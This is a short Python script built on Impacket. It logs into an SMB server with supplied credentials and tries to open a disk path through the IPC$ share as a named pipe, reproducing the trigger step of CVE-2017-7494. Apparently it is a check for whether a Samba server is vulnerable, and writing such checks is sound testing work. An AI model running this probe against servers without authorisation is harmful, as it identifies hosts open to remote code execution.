#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""smb_pipe.py SERVER USER PASSWORD PATH: opens a path of the server's disk as a pipe, as CVE-2017-7494 does (Impacket)."""
import sys

from impacket.smbconnection import SMBConnection

server, user, password, path = sys.argv[1:]
c = SMBConnection(server, server)
c.login(user, password, 'CORP')
tree = c.connectTree('IPC$')
try:
    c.openFile(tree, path)
except Exception as error:  # a mended server says that there is no such pipe
    print(error)
c.logoff()
